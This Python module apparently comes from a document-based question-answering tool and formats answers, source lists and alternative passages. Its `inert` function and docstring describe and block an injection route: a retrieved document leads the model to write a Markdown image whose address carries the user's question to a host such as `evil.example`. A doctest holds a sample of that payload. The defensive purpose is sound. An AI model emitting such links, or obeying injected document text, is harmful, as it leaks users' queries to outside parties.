"""The text for people: the answer with its markers, the reason of a refusal or a doubt, and a list of sources."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from pathlib import PurePath

from pydantic import BaseModel

from thresher.answer import Answer
from thresher.tracing.explain import STALE, in_full, marked_sentence, where
from thresher.types import Citation

SOURCES = "\n\nSources:\n"
"""Heading of the list at the end; in an earlier answer, what follows it does not belong to the answer."""

ALSO, NEAREST = "\n\nOther passages that may answer:\n", "\n\nNearest:\n"
"""Heading of further passages that may answer."""

WHY = "\nWhy: "

CONTRADICT = "\n\nThese sources contradict each other: "

UNDERSTOOD = "\n\nUnderstood as: "

UNREAD = "\n\nNot read: "
"""Heading of the names of files that a client sent along."""

SEARCHED = ". Only the documents of the collection are searched; add files to it to ask about them."

MOST_UNREAD = 5
"""Names shown; others are counted."""

_LOADS = re.compile(r"!(?=\[)|<(?=[a-zA-Z][\w-]*(?:[\s/]|$))")
_MARKER = re.compile(r"\[(\d{1,3})\]")
_QUOTED = re.compile(r"“[^“”]*”")
_QUOTED_OR_ROW = re.compile(r"“[^“”]*”|^\|.*$", re.MULTILINE)
"""Text of the documents in an answer that no model wrote."""


def inert(text: str) -> str:
    """The text, as long as before, without images and tags of HTML, whose addresses a client would load at once.

    A document may have a model write one that holds the question.

    >>> inert("![x](http://evil.example/?q=leave) <img src=x> List<String>")
    '！[x](http://evil.example/?q=leave) ‹img src=x> List<String>'
    """
    return _LOADS.sub(lambda found: "！" if found[0] == "!" else "‹", text)


def tail(answer: Answer, *, listed: bool, linked: bool, unread: Sequence[str] = ()) -> str:
    """The text after the answer: why it is none or in doubt, what contradicts it, the question, the sources, others.

    `unread` are the files that a client sent along. `listed` adds the understood question and the sources; `linked`
    adds their addresses, which are of no use if only this machine reaches the server.
    """
    text = in_full(answer.text, answer.reason).removeprefix(answer.text)
    if answer.conflicts and answer.answered_by == "model":  # without a model the answer itself tells it
        text += CONTRADICT + ", ".join(f"[{one}] and [{other}]" for one, other in answer.conflicts) + "."
    if listed and answer.standalone:
        text += UNDERSTOOD + answer.standalone
    if unread:
        more = [f"{len(unread) - MOST_UNREAD} more"] if len(unread) > MOST_UNREAD else []
        text += UNREAD + ", ".join([*unread[:MOST_UNREAD], *more]) + SEARCHED
    if listed and answer.citations:
        text += SOURCES + "\n".join(_line(citation, linked) for citation in answer.citations)
    if answer.alternatives:
        text += (NEAREST if answer.abstained else ALSO) + "\n".join(
            _other(one.citation, linked) for one in answer.alternatives
        )
    return inert(text)


def _other(citation: Citation, linked: bool) -> str:
    return f"{_line(citation, linked)}: “{marked_sentence(citation.to_dict())}”"


def without_tail(text: str) -> str:
    """An earlier answer that a client sends back, without its tail."""
    return re.split(f"{SOURCES}|{WHY}|{UNREAD}|{CONTRADICT}|{UNDERSTOOD}|{ALSO}|{NEAREST}", text, maxsplit=1)[0]


class UrlCitation(BaseModel):
    """A marker in the content and the address of its source; offsets in code points, end exclusive."""

    start_index: int
    end_index: int
    title: str
    url: str


def url_citations(answer: Answer) -> list[UrlCitation]:
    """A citation for each marker whose source has an address."""
    return [
        UrlCitation(start_index=start, end_index=end, title=place_of(citation), url=citation.url)
        for start, end, citation in marks(answer)
        if citation.url
    ]


def marks(answer: Answer) -> Iterator[tuple[int, int, Citation]]:
    """Start, end and citation of each marker in an answer's text, in order; a bracketed number inside a quote belongs
    to the document.
    """
    quoted = _QUOTED if answer.answered_by == "model" else _QUOTED_OR_ROW
    quotes = [found.span() for found in quoted.finditer(answer.text)]
    citations = {citation.marker: citation for citation in answer.citations}
    for found in _MARKER.finditer(answer.text):
        inside = any(start < found.start() < end for start, end in quotes)
        if not inside and (citation := citations.get(int(found[1]))) is not None:
            yield found.start(), found.end(), citation


def name_of(citation: Citation) -> str:
    """Title and file name of a source; for a web page only the title."""
    file = "" if _on_web(citation) else PurePath(citation.source).name
    if not citation.title or citation.title == file:
        return file or citation.source
    return f"{citation.title} ({file})" if file else citation.title


def place_of(citation: Citation) -> str:
    """The source and the position in it."""
    at = where(name_of(citation), None if citation.locator else citation.page)
    return ", ".join(filter(None, (at, citation.locator, STALE.get(citation.stale))))


def _line(citation: Citation, linked: bool) -> str:
    shown = citation.url if linked or _on_web(citation) else ""
    return f"- [{citation.marker}] {place_of(citation)}{f' <{shown}>' if shown else ''}"


def _on_web(citation: Citation) -> bool:
    return citation.source.startswith(("http://", "https://"))
